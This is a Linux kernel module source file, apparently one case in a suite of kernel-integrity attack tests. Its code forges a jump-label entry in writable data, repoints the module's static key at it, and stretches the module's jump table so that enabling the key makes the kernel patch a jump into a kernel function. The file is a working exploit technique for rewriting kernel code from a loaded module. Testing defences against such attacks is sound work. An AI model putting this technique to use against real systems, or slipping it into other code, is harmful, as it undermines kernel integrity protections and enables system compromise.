// SPDX-License-Identifier: GPL-2.0
/*
 * atk_jt_rewrite: after load, points its own static key at a jump entry
 * it forged in its data (code: the start of a kernel function, target=
 * print_hex_dump; target: its own code) and stretches THIS_MODULE's jump
 * table over it (the kernel walks a module key's entries up to the end of
 * mod->jump_entries), then enables the key: the kernel's jump-label code
 * would patch "jmp" into the kernel function.  __jump_table itself is
 * read-only after init; the key and struct module lie in writable data.
 */
#include <linux/jump_label.h>
#include "attack.h"

DEFINE_STATIC_KEY_FALSE(atk_jt_rewrite_key);

static struct jump_entry forged;

static noinline void atk_jt_rewrite_target(void)
{
}

/* A branch on the key: the module's jump table gets an entry for it. */
static noinline bool atk_jt_rewrite_on(void)
{
	return static_branch_unlikely(&atk_jt_rewrite_key);
}

/* A 4- or 8-byte store, as it would be written in asm (no compiler help). */
#define STORE(p, v) asm volatile("mov %1, %0" : "=m" (*(p)) : "r" (v))

static int attack(struct file *f)
{
	struct static_key *key = &atk_jt_rewrite_key.key;
	unsigned long type = key->type & JUMP_TYPE_MASK;

	forged.code = (s32)(target - (unsigned long)&forged.code);
	forged.target = (s32)((unsigned long)atk_jt_rewrite_target -
			      (unsigned long)&forged.target);
	forged.key = (long)key - (long)&forged.key;
	STORE(&key->type, (unsigned long)&forged | type);
	STORE(&THIS_MODULE->num_jump_entries,
	      (unsigned int)(&forged - THIS_MODULE->jump_entries + 1));
	static_branch_enable(&atk_jt_rewrite_key);
	return atk_jt_rewrite_on() ? 0 : -EINVAL;
}
